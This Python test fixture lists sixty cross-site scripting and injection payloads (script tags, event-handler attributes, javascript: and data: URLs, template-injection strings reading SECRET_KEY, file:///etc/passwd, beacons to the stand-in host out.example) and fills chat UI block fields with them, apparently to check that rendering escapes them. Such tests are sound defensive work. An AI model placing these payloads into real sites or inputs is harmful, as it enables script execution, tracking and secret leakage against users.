"""Sixty texts that a browser would run, load or follow, if anything made markup or an address of them."""

from __future__ import annotations

RUN = "window.ran=1"
OUT = "https://out.example/beacon"

MARKUP = (
    f"<script>{RUN}</script>",
    f"<script src={OUT}></script>",
    f"<img src=x onerror={RUN}>",
    f"<img src={OUT}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src={OUT}></iframe>",
    f"<object data={OUT}></object>",
    f"<embed src={OUT}>",
    f"<video src={OUT} autoplay onerror={RUN}></video>",
    f"<audio src={OUT} autoplay></audio>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<style>@import '{OUT}';</style>",
    f"<link rel=stylesheet href={OUT}>",
    f"<link rel=prefetch href={OUT}>",
    f"<meta http-equiv=refresh content='0;url={OUT}'>",
    f"<base href={OUT}/>",
    f"<form action={OUT}><button autofocus>x</button></form>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"</p></div></section><script>{RUN}</script>",
    f'"><img src=x onerror={RUN}>',
    f"'><svg/onload={RUN}>",
    f"<a href='javascript:{RUN}'>click</a>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<img srcset='{OUT} 2x' src=x>",
    f"<x style='background:url({OUT})'>x</x>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"\\u003cimg src=x onerror={RUN}\\u003e",
    f"%3Cimg%20src%3Dx%20onerror%3D{RUN}%3E",
    "<scr\u0000ipt>window.ran=1</scr\u0000ipt>".replace("\u0000", "\u200b"),
    f"<IMG SRC=x ONERROR={RUN}>",
)
TEXT = (
    f"![beacon]({OUT})",
    f"[click](javascript:{RUN})",
    f"<{OUT}>",
    "{{constructor.constructor('window.ran=1')()}}",
    "${window.ran=1}",
    "{% debug %}{{ settings.SECRET_KEY }}",
    "\u202etxt.exe\u202c",
    f"`;{RUN};//",
)
ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"javascript://out.example/%0a{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=",
    f"vbscript:{RUN}",
    "file:///etc/passwd",
    f"blob:{OUT}",
    f"view-source:javascript:{RUN}",
    f"https:javascript:{RUN}",
)

PAYLOADS = (*MARKUP, *TEXT, *ADDRESSES)


def block_of(kind: str, text: str) -> dict[str, object]:
    """A block in which every text is the payload."""
    if kind == "article_card":
        return {"type": kind, "title": text, "excerpt": text, "url": text}
    if kind == "order_list":
        parcel = {"provider": text, "number": text, "url": text}
        items = [{"name": text, "quantity": text}]
        row = {"number": text, "status": text, "date": text, "total": text, "items": items, "tracking": [parcel]}
        return {"type": kind, "orders": [row]}
    return {"type": kind, "escalation": text, "label": text, "reason": text}
